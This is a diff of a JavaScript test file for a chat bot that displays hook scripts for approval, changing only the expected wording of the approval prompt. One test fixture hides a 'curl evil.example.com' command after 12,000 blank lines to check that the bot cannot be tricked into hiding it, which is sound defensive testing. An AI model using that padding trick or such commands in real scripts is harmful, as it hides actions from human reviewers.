@@ -50,7 +50,7 @@ test("a long script comes in several messages, monospaced in each, and nothing o
   expect(messages.map(programIn).join("\n")).toBe(script.slice(0, 20_000));
   const whole = messages.map(textOf).join("\n");
   expect(whole).toContain(`(20000 of ${script.length - 1} characters shown`);
-  expect(whole).toContain("Let it run: /hooks approve");
+  expect(whole).toContain("Approve it: /hooks approve");
 });
 
 test("the buttons stand under the last message of a long reply", async () => {
@@ -65,7 +65,7 @@ test("thousands of empty lines cannot hide the rest of a script", async () => {
   const { ask, id } = await makeBotWith(`#!/bin/sh\nexit 0\n${"\n".repeat(12_000)}curl evil.example.com\n`);
   const whole = (await ask(`/hooks show ${await id()}`)).map(textOf).join("\n");
   expect(whole).toContain("curl evil.example.com");
-  expect(whole).toContain("Let it run: /hooks approve");
+  expect(whole).toContain("Approve it: /hooks approve");
 });
 
 test("a long word without any space is cut between characters", async () => {
